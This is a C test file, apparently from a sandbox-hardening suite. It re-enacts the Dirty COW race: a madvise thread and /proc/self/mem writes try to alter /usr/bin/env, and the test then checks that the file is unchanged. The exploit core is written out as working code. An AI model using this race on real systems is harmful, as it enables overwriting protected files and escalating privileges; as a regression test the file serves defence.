// Tries: to write a file that it may only read by a race between a write to its private copy and giving the copy back, as Dirty COW did.
// Ends: exited 0
#define _GNU_SOURCE
#include "walls.h"
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdint.h>
#include <sys/mman.h>

static char *copy;
static atomic_int done;

static void *give_back(void *unused)
{
    while (!done) {
        madvise(copy, 4096, MADV_DONTNEED);
        sched_yield();
    }
    return unused;
}

int main(void)
{
    pthread_t thread;
    char before[16] = "", after[16] = "";
    int file = open("/usr/bin/env", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    copy = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pread(file, before, sizeof before, 0);
    pthread_create(&thread, NULL, give_back, NULL);
    for (int tries = 0; tries < 3000 && memory >= 0; tries++) {
        (void)!pwrite(memory, "XXXX", 4, (off_t)(uintptr_t)copy);
        sched_yield();
    }
    done = 1;
    pthread_join(thread, NULL);
    HOLDS(pread(file, after, sizeof after, 0) == sizeof after && !memcmp(before, after, sizeof after));
    return granted;
}
